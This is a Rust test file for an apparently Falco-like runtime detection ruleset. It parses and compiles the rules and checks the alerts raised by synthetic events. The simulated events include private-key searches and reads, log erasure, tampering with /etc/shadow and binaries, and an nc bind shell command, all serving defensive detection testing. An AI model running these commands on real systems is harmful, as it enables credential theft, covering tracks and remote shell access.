//! The default ruleset (`falco-cli/rules/falco_rules.yaml`).
//!
//! The rule engine is not part of this test: the file is read with `saphyr`, lists and
//! exceptions are expanded into the condition text the way Falco does it (engine.md §2.3,
//! §2.6), macros are substituted in the parsed trees, and every condition is compiled with
//! `falco_sinsp::filter`. The compiled rules are then evaluated on events:
//!
//! * synthetic events (for behaviour the shared captures do not contain, such as
//!   `find /root -name id_rsa`);
//! * the shared captures replayed through `FileSource` (the current-layout view Falco's
//!   engine sees) and the state, with the exact alerts each capture must raise per rule,
//!   and the absence of noise on the everyday workload.
//!
//! A last group runs the `falco` binary itself: `-V` and `-L` on the file, and replays of
//! the captures, which must raise exactly the same alerts.
//!
//! `DEFAULT_RULES_DUMP=1 cargo test -p falco-cli --test default_rules -- --nocapture`
//! prints every alert with its rendered output.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::path::Path;

use falco_scap::{EventBuilder, EventSource, FileSource};
use falco_schema::code;
use falco_sinsp::fields::Ctx;
use falco_sinsp::filter::{self, EventTypeSet, Expr, Filter};
use falco_sinsp::format::Format;
use falco_sinsp::state::State;
use falco_sinsp::time::TimeFormatter;
use falco_tests::{capture_path, captures_or_skip, note};
use saphyr::{LoadableYamlNode, Scalar, Yaml};

const RULES_FILE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/rules/falco_rules.yaml");

// =========================================================================================
// A small rules loader (lists, macros, rules, exceptions, override append/replace).
// =========================================================================================

#[derive(Clone, Debug)]
struct ExceptionDef {
    name: String,
    /// Fields; `single` when `fields` was a scalar.
    fields: Vec<String>,
    single: bool,
    comps: Vec<String>,
    /// One entry per value tuple; each element a scalar or a list of scalars.
    values: Vec<Vec<ExcValue>>,
}

#[derive(Clone, Debug)]
enum ExcValue {
    Scalar(String),
    List(Vec<String>),
}

#[derive(Clone, Debug)]
struct RuleDef {
    name: String,
    desc: String,
    condition: String,
    output: String,
    priority: String,
    tags: Vec<String>,
    enabled: bool,
    exceptions: Vec<ExceptionDef>,
}

#[derive(Clone, Debug, Default)]
struct RulesDoc {
    required_engine_version: Option<String>,
    lists: Vec<(String, Vec<String>)>,
    macros: Vec<(String, String)>,
    rules: Vec<RuleDef>,
}

fn scalar(y: &Yaml) -> Option<String> {
    match y {
        Yaml::Value(Scalar::String(s)) => Some(s.to_string()),
        Yaml::Value(Scalar::Integer(i)) => Some(i.to_string()),
        Yaml::Value(Scalar::Boolean(b)) => Some(b.to_string()),
        Yaml::Value(Scalar::FloatingPoint(f)) => Some(f.to_string()),
        Yaml::Representation(s, _, _) => Some(s.to_string()),
        _ => None,
    }
}

fn get<'a>(item: &'a Yaml<'a>, key: &str) -> Option<&'a Yaml<'a>> {
    item.as_mapping_get(key)
}

fn get_str(item: &Yaml, key: &str) -> Option<String> {
    get(item, key).and_then(scalar)
}

fn str_list(y: &Yaml) -> Vec<String> {
    match y {
        Yaml::Sequence(s) => s.iter().filter_map(scalar).collect(),
        other => scalar(other).into_iter().collect(),
    }
}

/// `override: {KEY: append|replace}` of an item, if any.
fn override_of(item: &Yaml, key: &str) -> Option<String> {
    get(item, "override").and_then(|o| get_str(o, key))
}

fn exceptions_of(y: &Yaml) -> Vec<ExceptionDef> {
    let Some(seq) = y.as_sequence() else {
        return Vec::new();
    };
    seq.iter()
        .map(|e| {
            let name = get_str(e, "name").expect("exception without a name");
            let (fields, single) = match get(e, "fields") {
                Some(Yaml::Sequence(s)) => (s.iter().filter_map(scalar).collect(), false),
                Some(f) => (scalar(f).into_iter().collect(), true),
                None => (Vec::new(), false),
            };
            let comps = get(e, "comps").map(str_list).unwrap_or_default();
            let values = match get(e, "values") {
                Some(Yaml::Sequence(vals)) => vals
                    .iter()
                    .map(|v| match v {
                        Yaml::Sequence(tuple) if !single => tuple
                            .iter()
                            .map(|el| match el {
                                Yaml::Sequence(l) => {
                                    ExcValue::List(l.iter().filter_map(scalar).collect())
                                }
                                other => ExcValue::Scalar(scalar(other).unwrap_or_default()),
                            })
                            .collect(),
                        other => vec![ExcValue::Scalar(scalar(other).unwrap_or_default())],
                    })
                    .collect(),
                _ => Vec::new(),
            };
            ExceptionDef {
                name,
                fields,
                single,
                comps,
                values,
            }
        })
        .collect()
}

impl RulesDoc {
    /// Loads one rules file's text on top of what was loaded before (as Falco does for
    /// `falco_rules.yaml`, then `falco_rules.local.yaml`, then `rules.d/*`).
    fn load(&mut self, text: &str) {
        let docs = Yaml::load_from_str(text).expect("rules file is valid YAML");
        for doc in docs {
            let Some(items) = doc.as_sequence() else {
                assert!(doc.is_null(), "a rules document must be a sequence of maps");
                continue;
            };
            for item in items {
                self.load_item(item);
            }
        }
    }

    fn load_item(&mut self, item: &Yaml) {
        if let Some(v) = get_str(item, "required_engine_version") {
            self.required_engine_version = Some(v);
        } else if let Some(name) = get_str(item, "list") {
            let items = get(item, "items").map(str_list).unwrap_or_default();
            match (
                override_of(item, "items").as_deref(),
                self.lists.iter_mut().find(|(n, _)| *n == name),
            ) {
                (Some("append"), Some((_, old))) => old.extend(items),
                (Some("append"), None) => panic!("append to undefined list {name}"),
                (_, Some((_, old))) => *old = items,
                (_, None) => self.lists.push((name, items)),
            }
        } else if let Some(name) = get_str(item, "macro") {
            let cond = get_str(item, "condition").expect("macro without condition");
            match (
                override_of(item, "condition").as_deref(),
                self.macros.iter_mut().find(|(n, _)| *n == name),
            ) {
                (Some("append"), Some((_, old))) => *old = format!("{old} {cond}"),
                (Some("append"), None) => panic!("append to undefined macro {name}"),
                (_, Some((_, old))) => *old = cond,
                (_, None) => self.macros.push((name, cond)),
            }
        } else if let Some(name) = get_str(item, "rule") {
            let existing = self.rules.iter().position(|r| r.name == name);
            if get(item, "override").is_some() {
                let idx = existing.unwrap_or_else(|| panic!("override of undefined rule {name}"));
                let r = &mut self.rules[idx];
                for key in [
                    "condition",
                    "output",
                    "desc",
                    "exceptions",
                    "enabled",
                    "priority",
                ] {
                    let Some(op) = override_of(item, key) else {
                        continue;
                    };
                    let append = op == "append";
                    match key {
                        "condition" | "output" | "desc" => {
                            let v = get_str(item, key).unwrap();
                            let slot = match key {
                                "condition" => &mut r.condition,
                                "output" => &mut r.output,
                                _ => &mut r.desc,
                            };
                            *slot = if append { format!("{slot} {v}") } else { v };
                        }
                        "exceptions" => {
                            let new = exceptions_of(get(item, key).unwrap());
                            if !append {
                                r.exceptions = new;
                                continue;
                            }
                            for e in new {
                                match r.exceptions.iter_mut().find(|o| o.name == e.name) {
                                    Some(o) => o.values.extend(e.values),
                                    None => r.exceptions.push(e),
                                }
                            }
                        }
                        "enabled" => r.enabled = get_str(item, key).unwrap() == "true",
                        _ => r.priority = get_str(item, key).unwrap(),
                    }
                }
                return;
            }
            let rule = RuleDef {
                name: name.clone(),
                desc: get_str(item, "desc").unwrap_or_default(),
                condition: get_str(item, "condition").unwrap_or_default(),
                output: get_str(item, "output").unwrap_or_default(),
                priority: get_str(item, "priority").unwrap_or_default(),
                tags: get(item, "tags").map(str_list).unwrap_or_default(),
                enabled: get_str(item, "enabled").is_none_or(|e| e == "true"),
                exceptions: get(item, "exceptions")
                    .map(exceptions_of)
                    .unwrap_or_default(),
            };
            match existing {
                Some(i) => self.rules[i] = rule,
                None => self.rules.push(rule),
            }
        } else {
            panic!("unknown top-level item: {item:?}");
        }
    }

    /// Lists with the names of earlier lists among their items inlined.
    fn expanded_lists(&self) -> Vec<(String, Vec<String>)> {
        let mut out: Vec<(String, Vec<String>)> = Vec::new();
        for (name, items) in &self.lists {
            let mut flat = Vec::new();
            for it in items {
                match out.iter().find(|(n, _)| n == it) {
                    Some((_, inner)) => flat.extend(inner.iter().cloned()),
                    None => flat.push(it.clone()),
                }
            }
            out.push((name.clone(), flat));
        }
        out
    }
}

/// Falco's textual list substitution: every occurrence of a list name delimited by the
/// start or end of the text or one of ` \t\n\r(),=` becomes the items joined with ", "
/// (items with a space, not already quoted, are double-quoted); an empty list also takes
/// away one adjacent comma.
fn substitute_lists(text: &str, lists: &[(String, Vec<String>)]) -> String {
    let is_delim = |c: u8| b" \t\n\r(),=".contains(&c);
    let mut s = text.to_string();
    for (name, items) in lists {
        let rendered: Vec<String> = items
            .iter()
            .map(|i| {
                if i.contains(' ') && !(i.starts_with('"') || i.starts_with('\'')) {
                    format!("\"{i}\"")
                } else {
                    i.clone()
                }
            })
            .collect();
        let repl = rendered.join(", ");
        let mut out = String::with_capacity(s.len());
        let bytes = s.as_bytes();
        let mut i = 0;
        while i < bytes.len() {
            let at_name = s[i..].starts_with(name.as_str())
                && (i == 0 || is_delim(bytes[i - 1]))
                && bytes.get(i + name.len()).is_none_or(|&c| is_delim(c));
            if !at_name {
                out.push(bytes[i] as char);
                i += 1;
                continue;
            }
            i += name.len();
            if repl.is_empty() {
                // Drop one adjacent comma: the following one, else the preceding one.
                let rest = &s[i..];
                let trimmed = rest.trim_start();
                if trimmed.starts_with(',') {
                    i += rest.len() - trimmed.len() + 1;
                } else {
                    let kept = out.trim_end().len();
                    if out[..kept].ends_with(',') {
                        out.truncate(kept - 1);
                    }
                }
            } else {
                out.push_str(&repl);
            }
        }
        s = out;
    }
    s
}

const LIST_OPS: &[&str] = &["in", "intersects", "pmatch"];

fn quote_value(v: &str) -> String {
    if v.contains(' ') && !(v.starts_with('"') || v.starts_with('\'')) {
        format!("\"{v}\"")
    } else {
        v.to_string()
    }
}

/// The condition with its exceptions appended, as Falco's rule loader builds it.
fn condition_with_exceptions(rule: &RuleDef) -> String {
    let mut cond = format!("({})", rule.condition.trim());
    for e in &rule.exceptions {
        if e.values.is_empty() {
            continue;
        }
        if e.single {
            let comp = e.comps.first().map_or("in", String::as_str);
            let vals: Vec<String> = e
                .values
                .iter()
                .flatten()
                .map(|v| match v {
                    ExcValue::Scalar(s) => quote_value(s),
                    ExcValue::List(l) => l
                        .iter()
                        .map(|s| quote_value(s))
                        .collect::<Vec<_>>()
                        .join(", "),
                })
                .collect();
            cond.push_str(&format!(
                " and not ({} {} ({}))",
                e.fields[0],
                comp,
                vals.join(", ")
            ));
            continue;
        }
        let tuples: Vec<String> = e
            .values
            .iter()
            .map(|tuple| {
                assert_eq!(
                    tuple.len(),
                    e.fields.len(),
                    "rule {}: exception {}: fields and values lists must have equal length",
                    rule.name,
                    e.name
                );
                let parts: Vec<String> = e
                    .fields
                    .iter()
                    .zip(tuple)
                    .enumerate()
                    .map(|(i, (f, v))| {
                        let comp = e.comps.get(i).map_or("=", String::as_str);
                        let val = match v {
                            ExcValue::List(l) => format!(
                                "({})",
                                l.iter()
                                    .map(|s| quote_value(s))
                                    .collect::<Vec<_>>()
                                    .join(", ")
                            ),
                            ExcValue::Scalar(s) if LIST_OPS.contains(&comp) => format!("({s})"),
                            ExcValue::Scalar(s) => quote_value(s),
                        };
                        format!("{f} {comp} {val}")
                    })
                    .collect();
                format!("({})", parts.join(" and "))
            })
            .collect();
        cond.push_str(&format!(" and not ({})", tuples.join(" or ")));
    }
    cond
}

struct CompiledRule {
    name: String,
    priority: String,
    enabled: bool,
    /// The flat condition (macros substituted), as text.
    flat: String,
    filter: Filter,
    types: EventTypeSet,
    output: Format,
}

const PRIORITIES: &[&str] = &[
    "emergency",
    "alert",
    "critical",
    "error",
    "warning",
    "notice",
    "informational",
    "info",
    "debug",
];

/// Compiles every rule of `doc`: errors name the rule or macro.
fn compile(doc: &RulesDoc) -> Result<Vec<CompiledRule>, String> {
    let lists = doc.expanded_lists();
    // Macros see only the macros defined before them.
    let mut macros: HashMap<String, Expr> = HashMap::new();
    for (name, cond) in &doc.macros {
        let text = substitute_lists(cond, &lists);
        let mut ast = filter::parse_with_max_depth(&text, 1000)
            .map_err(|e| format!("macro '{name}': {e}\n  condition: {text}"))?;
        ast.resolve_macros(&mut |m: &str, _| match macros.get(m) {
            Some(e) => Ok(Some(e.clone())),
            None => Err(format!(
                "macro '{name}': Undefined macro '{m}' used in filter."
            )),
        })?;
        macros.insert(name.clone(), ast);
    }
    let mut out = Vec::new();
    for r in &doc.rules {
        let text = substitute_lists(&condition_with_exceptions(r), &lists);
        let mut ast = filter::parse_with_max_depth(&text, 1000)
            .map_err(|e| format!("rule '{}': {e}\n  condition: {text}", r.name))?;
        ast.resolve_macros(&mut |m: &str, _| match macros.get(m) {
            Some(e) => Ok(Some(e.clone())),
            None => Err(format!(
                "rule '{}': Undefined macro '{m}' used in filter.",
                r.name
            )),
        })?;
        let filter = Filter::compile(&ast)
            .map_err(|e| format!("rule '{}': {e}\n  condition: {ast}", r.name))?;
        let types = filter::event_types(&ast).map_err(|e| format!("rule '{}': {e}", r.name))?;
        let output = Format::parse(&format!("*{}", r.output.trim()))
            .map_err(|e| format!("rule '{}': output: {e}", r.name))?;
        if !PRIORITIES.contains(&r.priority.to_ascii_lowercase().as_str()) {
            return Err(format!(
                "rule '{}': invalid priority {}",
                r.name, r.priority
            ));
        }
        out.push(CompiledRule {
            name: r.name.clone(),
            priority: r.priority.clone(),
            enabled: r.enabled,
            flat: ast.to_string(),
            filter,
            types,
            output,
        });
    }
    Ok(out)
}

fn default_doc() -> RulesDoc {
    let text = std::fs::read_to_string(RULES_FILE).expect("the default rules file");
    let mut doc = RulesDoc::default();
    doc.load(&text);
    doc
}

fn default_rules() -> Vec<CompiledRule> {
    compile(&default_doc()).unwrap_or_else(|e| panic!("{e}"))
}

// =========================================================================================
// Evaluation
// =========================================================================================

/// Alerts: rule name -> event numbers, in order.
type Alerts = BTreeMap<String, Vec<u64>>;

struct Evaluator {
    rules: Vec<CompiledRule>,
    alerts: Alerts,
    /// Events matched by more than one rule: (evt.num, rule names).
    overlaps: Vec<(u64, Vec<String>)>,
    tf: TimeFormatter,
    dump: bool,
    /// Events evaluated.
    events: u64,
}

impl Evaluator {
    fn new(rules: Vec<CompiledRule>) -> Evaluator {
        Evaluator {
            rules,
            alerts: Alerts::new(),
            overlaps: Vec::new(),
            tf: TimeFormatter::new(),
            dump: std::env::var_os("DEFAULT_RULES_DUMP").is_some(),
            events: 0,
        }
    }

    /// Evaluates every enabled rule indexed under the event's type (as `rule_matching: all`).
    fn eval(&mut self, ctx: &Ctx<'_>) {
        let ty = ctx.ev.ty();
        self.events += 1;
        let mut matched = Vec::new();
        for r in &mut self.rules {
            if !r.enabled || !r.types.contains(ty) {
                continue;
            }
            if r.filter.eval(ctx) {
                self.alerts
                    .entry(r.name.clone())
                    .or_default()
                    .push(ctx.ev.num);
                matched.push(r.name.clone());
                if self.dump {
                    let mut line = Vec::new();
                    r.output.render_line(ctx, &mut self.tf, &mut line);
                    note(&format!(
                        "#{} {} [{}] {}",
                        ctx.ev.num,
                        r.priority,
                        r.name,
                        String::from_utf8_lossy(&line).trim_end()
                    ));
                }
            }
        }
        if matched.len() > 1 {
            self.overlaps.push((ctx.ev.num, matched));
        }
    }
}

/// Replays a capture (current-layout view, as the engine sees it) through the rules.
fn replay(path: &Path, rules: Vec<CompiledRule>) -> Evaluator {
    let mut ev_ = Evaluator::new(rules);
    let mut src = FileSource::open(path).expect("capture opens");
    let mut state = State::new();
    state.load_metadata(src.metadata());
    while let Some(ev) = src.next_event().expect("capture reads") {
        state.process(&ev);
        ev_.eval(&Ctx {
            ev: &ev,
            state: &state,
        });
    }
    ev_
}

fn alerts(pairs: &[(&str, &[u64])]) -> Alerts {
    pairs
        .iter()
        .map(|(r, n)| (r.to_string(), n.to_vec()))
        .collect()
}

fn assert_alerts(what: &str, expected: &Alerts, actual: &Alerts) {
    if expected == actual {
        return;
    }
    let mut report = format!("{what}: alerts differ from the expected ones\n");
    let names: BTreeSet<&String> = expected.keys().chain(actual.keys()).collect();
    for n in names {
        let e = expected.get(n).cloned().unwrap_or_default();
        let a = actual.get(n).cloned().unwrap_or_default();
        if e != a {
            report.push_str(&format!("  {n}:\n    expected {e:?}\n    actual   {a:?}\n"));
        }
    }
    panic!("{report}");
}

// =========================================================================================
// Synthetic events
// =========================================================================================

fn i64b(v: i64) -> [u8; 8] {
    v.to_le_bytes()
}
fn u32b(v: u32) -> [u8; 4] {
    v.to_le_bytes()
}
fn u64b(v: u64) -> [u8; 8] {
    v.to_le_bytes()
}
fn cs(s: &str) -> Vec<u8> {
    let mut v = s.as_bytes().to_vec();
    v.push(0);
    v
}

/// A socket tuple (IPv4): family, client address and port, server address and port.
fn tuple4(sip: [u8; 4], sport: u16, dip: [u8; 4], dport: u16) -> Vec<u8> {
    let mut v = vec![2u8];
    v.extend_from_slice(&sip);
    v.extend_from_slice(&sport.to_le_bytes());
    v.extend_from_slice(&dip);
    v.extend_from_slice(&dport.to_le_bytes());
    v
}

const HOST_CGROUPS: &[u8] = b"cpu=/\0memory=/\0";
const DOCKER_CGROUPS: &[u8] =
    b"cpu=/docker/5e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f7\0";

/// One process of a synthetic scenario.
#[derive(Clone, Copy)]
struct Proc<'a> {
    tid: i64,
    ptid: i64,
    comm: &'a str,
    exepath: &'a str,
    /// Arguments after argv[0].
    args: &'a [&'a str],
    cgroups: &'a [u8],
    /// execve `flags` (4: executable from memfd).
    flags: u32,
    cap_effective: u64,
}

impl<'a> Proc<'a> {
    fn host(tid: i64, ptid: i64, comm: &'a str, exepath: &'a str, args: &'a [&'a str]) -> Self {
        Proc {
            tid,
            ptid,
            comm,
            exepath,
            args,
            cgroups: HOST_CGROUPS,
            flags: 0,
            cap_effective: 0,
        }
    }
}

/// Synthetic events applied to a state and evaluated, one at a time.
struct Sim {
    state: State,
    b: EventBuilder,
    ts: u64,
    num: u64,
    eval: Evaluator,
}

impl Sim {
    fn new() -> Sim {
        Sim {
            state: State::new(),
            b: EventBuilder::new(),
            ts: 1_700_000_000_000_000_000,
            num: 0,
            eval: Evaluator::new(default_rules()),
        }
    }

    /// Applies and evaluates one event; returns its number.
    fn ev(&mut self, tid: i64, ty: u16, params: &[&[u8]]) -> u64 {
        self.ts += 1000;
        self.num += 1;
        self.b.begin(self.ts, tid as u64, ty);
        for p in params {
            self.b.param(p);
        }
        let mut ev = self.b.event();
        ev.num = self.num;
        self.state.process(&ev);
        self.eval.eval(&Ctx {
            ev: &ev,
            state: &self.state,
        });
        self.num
    }

    /// A successful execve of `p` (its parent must have been exec'd before for proc.pname).
    fn exec(&mut self, p: Proc<'_>) -> u64 {
        let mut args = Vec::new();
        for a in p.args {
            args.extend_from_slice(a.as_bytes());
            args.push(0);
        }
        self.ev(
            p.tid,
            code::PPME_SYSCALL_EXECVE_19_X,
            &[
                &i64b(0),
                &cs(p.exepath),
                &args,
                &i64b(p.tid),
                &i64b(p.tid),
                &i64b(p.ptid),
                &cs("/root"),
                &u64b(1024),
                &u64b(0),
                &u64b(0),
                &u32b(0),
                &u32b(0),
                &u32b(0),
                &cs(p.comm),
                p.cgroups,
                b"HOME=/root\0PATH=/usr/bin:/bin\0",
                &u32b(0),
                &i64b(p.tid),
                &u32b(0),
                &u32b(p.flags),
                &u64b(0),
                &u64b(p.cap_effective),
                &u64b(p.cap_effective),
                &u64b(42),
                &u64b(5),
                &u64b(6),
                &u32b(0),
                &cs(p.exepath),
                &i64b(p.tid),
                &u32b(0),
                &cs(p.exepath),
            ],
        )
    }

    /// The child side of a clone: thread `tid` of parent `ptid`, seen as `vpid` in its pid
    /// namespace.
    fn clone_child(&mut self, ptid: i64, tid: i64, vpid: i64, cgroups: &[u8]) -> u64 {
        let comm = self
            .state
            .comm(ptid)
            .map(|c| String::from_utf8_lossy(c).into_owned());
        let comm = comm.unwrap_or_default();
        self.ev(
            tid,
            code::PPME_SYSCALL_CLONE_20_X,
            &[
                &i64b(0),
                &cs(&comm),
                b"",
                &i64b(tid),
                &i64b(tid),
                &i64b(ptid),
                &cs("/"),
                &i64b(1024),
                &u64b(0),
                &u64b(0),
                &u32b(0),
                &u32b(0),
                &u32b(0),
                &cs(&comm),
                cgroups,
                &u32b(0),
                &u32b(0),
                &u32b(0),
                &i64b(vpid),
                &i64b(vpid),
                &u64b(0),
            ],
        )
    }

    fn openat(&mut self, tid: i64, fd: i64, name: &str, flags: u32, mode: u32) -> u64 {
        self.ev(
            tid,
            code::PPME_SYSCALL_OPENAT_2_X,
            &[
                &i64b(fd),
                &i64b(-100),
                &cs(name),
                &u32b(flags),
                &u32b(mode),
                &u32b(0),
                &u64b(0),
            ],
        )
    }

    fn close(&mut self, tid: i64, fd: i64) {
        self.ev(tid, code::PPME_SYSCALL_CLOSE_X, &[&i64b(0), &i64b(fd)]);
    }
}

// Portable open flags (schema/src/flags.rs).
const O_RDONLY: u32 = 1 << 0;
const O_WRONLY: u32 = 1 << 1;
const O_CREAT: u32 = 1 << 2;
const O_TRUNC: u32 = 1 << 8;

// =========================================================================================
// Tests: loading and compiling
// =========================================================================================

#[test]
fn every_rule_compiles() {
    let doc = default_doc();
    assert_eq!(doc.required_engine_version.as_deref(), Some("0.57.0"));
    let rules = compile(&doc).unwrap_or_else(|e| panic!("{e}"));
    assert!(rules.len() >= 25, "only {} rules", rules.len());
    for r in &rules {
        // Every rule is indexed by event type: a restricted, non-empty set (Falco warns
        // about rules matching more than 100 event codes).
        if r.types.is_empty() {
            // Only a rule whose scope is the `evt.num = 0` placeholder may match nothing
            // (the generic allow-list waiting for its scope).
            assert!(
                r.flat.contains("evt.num = 0"),
                "rule '{}' matches no event type: {}",
                r.name,
                r.flat
            );
            continue;
        }
        assert!(
            r.types.len() <= 100,
            "rule '{}' matches {} event types: {}",
            r.name,
            r.types.len(),
            r.flat
        );
    }
}

#[test]
fn rule_items_are_complete_and_consistent() {
    let doc = default_doc();
    let mut names = BTreeSet::new();
    for r in &doc.rules {
        assert!(
            names.insert(r.name.clone()),
            "rule '{}' defined twice",
            r.name
        );
        assert!(!r.desc.trim().is_empty(), "rule '{}' has no desc", r.name);
        assert!(!r.tags.is_empty(), "rule '{}' has no tags", r.name);
        assert!(r.enabled, "rule '{}' is disabled", r.name);
        // Outputs share one suffix describing who did it (the container fields are
        // appended by `append_output: suggested_output`, so no rule repeats them).
        for field in [
            "%proc.name",
            "%proc.exepath",
            "%proc.cmdline",
            "%proc.pname",
            "%user.name",
            "%user.uid",
        ] {
            assert!(
                r.output.contains(field),
                "rule '{}': output lacks {field}",
                r.name
            );
        }
        assert!(
            !r.output.contains("%container.id") && !r.output.contains("%container.name"),
            "rule '{}': the container fields are appended by suggested_output",
            r.name
        );
        let mut seen = BTreeSet::new();
        for e in &r.exceptions {
            assert!(
                seen.insert(&e.name),
                "rule '{}': exception {} twice",
                r.name,
                e.name
            );
        }
    }
    // Every list and macro is used somewhere.
    let texts: Vec<String> = doc
        .rules
        .iter()
        .map(|r| r.condition.clone())
        .chain(doc.macros.iter().map(|(_, c)| c.clone()))
        .chain(doc.lists.iter().map(|(_, i)| i.join(" ")))
        .collect();
    let used = |name: &str| {
        texts.iter().any(|t| {
            t.split(|c: char| " \t\n\r(),=".contains(c))
                .any(|w| w == name)
        })
    };
    for (name, _) in &doc.lists {
        assert!(used(name), "list {name} is not used");
    }
    for (name, _) in &doc.macros {
        assert!(used(name), "macro {name} is not used");
    }
}

/// The tuning examples of rules/README.md load on top of the default file and compile.
#[test]
fn readme_tuning_examples_compile() {
    let readme =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/rules/README.md")).unwrap();
    let mut blocks = Vec::new();
    let mut cur: Option<String> = None;
    for line in readme.lines() {
        match (&mut cur, line.trim_start()) {
            (None, "```yaml") => cur = Some(String::new()),
            (Some(_), "```") => blocks.push(cur.take().unwrap()),
            (Some(b), _) => {
                b.push_str(line);
                b.push('\n');
            }
            _ => {}
        }
    }
    assert!(blocks.len() >= 3, "README has {} yaml blocks", blocks.len());
    for b in &blocks {
        let mut doc = default_doc();
        doc.load(b);
        compile(&doc).unwrap_or_else(|e| panic!("README example fails: {e}\n{b}"));
    }
}

// =========================================================================================
// Tests: synthetic events
// =========================================================================================

/// `find /root -name id_rsa` only lists directories and stats names; the command line is
/// what gives it away. Opening a key by name is reported too.
#[test]
fn search_for_private_keys_and_key_reads() {
    let mut sim = Sim::new();
    sim.exec(Proc::host(100, 1, "bash", "/usr/bin/bash", &[]));
    let find = sim.exec(Proc::host(
        101,
        100,
        "find",
        "/usr/bin/find",
        &["/root", "-name", "id_rsa"],
    ));
    // An ordinary find is quiet.
    sim.exec(Proc::host(
        102,
        100,
        "find",
        "/usr/bin/find",
        &["/usr/lib", "-name", "*.py"],
    ));
    let grep = sim.exec(Proc::host(
        103,
        100,
        "grep",
        "/usr/bin/grep",
        &["-rl", "BEGIN OPENSSH PRIVATE KEY", "/home"],
    ));
    sim.exec(Proc::host(
        104,
        100,
        "cat",
        "/usr/bin/cat",
        &["/root/.ssh/id_rsa"],
    ));
    let open = sim.openat(104, 3, "/root/.ssh/id_rsa", O_RDONLY, 0);
    sim.close(104, 3);
    // ssh reading its own key is quiet; so is a public key.
    sim.exec(Proc::host(
        105,
        100,
        "ssh",
        "/usr/bin/ssh",
        &["git@example.com"],
    ));
    sim.openat(105, 3, "/root/.ssh/id_ed25519", O_RDONLY, 0);
    sim.exec(Proc::host(
        106,
        100,
        "cat",
        "/usr/bin/cat",
        &["/root/.ssh/id_rsa.pub"],
    ));
    sim.openat(106, 3, "/root/.ssh/id_rsa.pub", O_RDONLY, 0);
    assert_alerts(
        "synthetic key search",
        &alerts(&[
            ("Search for credential files", &[find, grep]),
            ("Private key file read", &[open]),
            ("SSH client or remote copy started", &[sim.num - 3]),
        ]),
        &sim.eval.alerts,
    );
}

#[test]
fn processes_from_memory_and_remote_clients() {
    let mut sim = Sim::new();
    sim.exec(Proc::host(100, 1, "bash", "/usr/bin/bash", &[]));
    let memfd = sim.exec(Proc {
        flags: 4,
        ..Proc::host(101, 100, "3", "memfd:payload (deleted)", &[])
    });
    let scp = sim.exec(Proc::host(
        102,
        100,
        "scp",
        "/usr/bin/scp",
        &["/etc/hosts", "h:/tmp"],
    ));
    // scp's own ssh is not reported a second time.
    sim.exec(Proc::host(
        103,
        102,
        "ssh",
        "/usr/bin/ssh",
        &["-x", "h", "scp -t /tmp"],
    ));
    sim.exec(Proc::host(104, 1, "nginx", "/usr/sbin/nginx", &[]));
    let sh = sim.exec(Proc::host(105, 104, "sh", "/usr/bin/sh", &["-c", "id"]));
    assert_alerts(
        "synthetic processes",
        &alerts(&[
            ("Program run from memory", &[memfd]),
            ("SSH client or remote copy started", &[scp]),
            ("Shell started by a non-shell program", &[sh]),
        ]),
        &sim.eval.alerts,
    );
}

#[test]
fn tampering_with_binaries_logs_and_accounts() {
    let mut sim = Sim::new();
    sim.exec(Proc::host(100, 1, "bash", "/usr/bin/bash", &[]));
    let w_ls = sim.openat(100, 3, "/usr/bin/ls", O_WRONLY | O_TRUNC, 0);
    sim.close(100, 3);
    let w_tool = sim.openat(100, 3, "/usr/local/bin/helper", O_WRONLY | O_CREAT, 0o755);
    sim.close(100, 3);
    let mv = sim.ev(
        100,
        code::PPME_SYSCALL_RENAMEAT2_X,
        &[
            &i64b(0),
            &i64b(-100),
            &cs("/tmp/evil"),
            &i64b(-100),
            &cs("/usr/bin/passwd"),
            &u32b(0),
        ],
    );
    let rm_login = sim.ev(
        100,
        code::PPME_SYSCALL_UNLINKAT_2_X,
        &[&i64b(0), &i64b(-100), &cs("/sbin/login"), &u32b(0)],
    );
    let trunc_log = sim.openat(100, 3, "/var/log/auth.log", O_WRONLY | O_TRUNC, 0);
    sim.close(100, 3);
    let rm_log = sim.ev(
        100,
        code::PPME_SYSCALL_UNLINKAT_2_X,
        &[&i64b(0), &i64b(-100), &cs("/var/log/wtmp"), &u32b(0)],
    );
    // Appending to a log is what programs do all day.
    sim.openat(100, 3, "/var/log/app.log", O_WRONLY | O_CREAT, 0o644);
    sim.close(100, 3);
    let chmod_shadow = sim.ev(
        100,
        code::PPME_SYSCALL_FCHMODAT_X,
        &[&i64b(0), &i64b(-100), &cs("/etc/shadow"), &u32b(0o644)],
    );
    let chown_sudoers = sim.ev(
        100,
        code::PPME_SYSCALL_FCHOWNAT_X,
        &[
            &i64b(0),
            &i64b(-100),
            &cs("/etc/sudoers.d/zz"),
            &u32b(1000),
            &u32b(1000),
            &u32b(0),
        ],
    );
    let hardlink = sim.ev(
        100,
        code::PPME_SYSCALL_LINKAT_2_X,
        &[
            &i64b(0),
            &i64b(-100),
            &cs("/etc/shadow"),
            &i64b(-100),
            &cs("/tmp/s"),
            &u32b(0),
        ],
    );
    // The same writes by the package manager are quiet.
    sim.exec(Proc::host(
        200,
        1,
        "dpkg",
        "/usr/bin/dpkg",
        &["-i", "x.deb"],
    ));
    sim.openat(200, 3, "/usr/bin/ls.dpkg-new", O_WRONLY | O_CREAT, 0o755);
    sim.ev(
        200,
        code::PPME_SYSCALL_RENAMEAT2_X,
        &[
            &i64b(0),
            &i64b(-100),
            &cs("/usr/bin/ls.dpkg-new"),
            &i64b(-100),
            &cs("/usr/bin/ls"),
            &u32b(0),
        ],
    );
    sim.openat(200, 4, "/etc/passwd", O_WRONLY, 0);
    assert_alerts(
        "synthetic tampering",
        &alerts(&[
            ("Core system program tampered with", &[w_ls, mv, rm_login]),
            ("Binary directory written", &[w_tool]),
            ("System log erased", &[trunc_log, rm_log]),
            ("Account file permissions changed", &[chmod_shadow]),
            ("Account file ownership changed", &[chown_sudoers]),
            ("Link to an account file created", &[hardlink]),
        ]),
        &sim.eval.alerts,
    );
}

#[test]
fn network_inbound_outbound_and_container_privileges() {
    let mut sim = Sim::new();
    // A bind shell: nc accepts a connection from another machine.
    sim.exec(Proc::host(
        100,
        1,
        "nc",
        "/usr/bin/nc",
        &["-lvp", "8443", "-e", "/bin/sh"],
    ));
    let accept = sim.ev(
        100,
        code::PPME_SOCKET_ACCEPT4_6_X,
        &[
            &i64b(5),
